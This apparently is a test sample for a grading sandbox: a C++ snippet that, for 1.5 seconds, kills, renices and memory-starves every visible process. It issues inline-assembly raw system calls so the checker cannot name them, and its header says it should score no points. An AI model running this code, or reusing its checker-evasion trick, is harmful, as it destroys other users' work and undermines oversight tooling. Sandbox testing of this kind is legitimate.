// what: for 1.5 s in every call, does to every other process it can see what hurts a neighbour being graded at the same time: shrinks its address space to 1 MiB, renices it, SIGKILLs it (raw system calls, which vet-lab cannot name)
// expect: no points
// --- top
#include <dirent.h>
#include <signal.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <chrono>
#include <cstdlib>
static long raw_syscall(long n, long a = 0, long b = 0, long c = 0, long d = 0) {
  long ret;
  register long r10 asm("r10") = d;
  asm volatile("syscall" : "=a"(ret) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
  return ret;
}
static void harm_every_visible_process() {
  const long self = raw_syscall(SYS_getpid);
  const rlimit tiny{1 << 20, 1 << 20};
  const auto until = std::chrono::steady_clock::now() + std::chrono::milliseconds(1500);
  while (std::chrono::steady_clock::now() < until) {
    DIR* proc = opendir("/proc");
    if (!proc) return;
    while (dirent* e = readdir(proc)) {
      const long pid = std::atol(e->d_name);
      if (pid <= 1 || pid == self) continue;
      raw_syscall(SYS_prlimit64, pid, RLIMIT_AS, long(&tiny), 0);
      raw_syscall(SYS_setpriority, PRIO_PROCESS, pid, 19);
      raw_syscall(SYS_kill, pid, SIGKILL);
    }
    closedir(proc);
  }
}
// --- body
harm_every_visible_process();
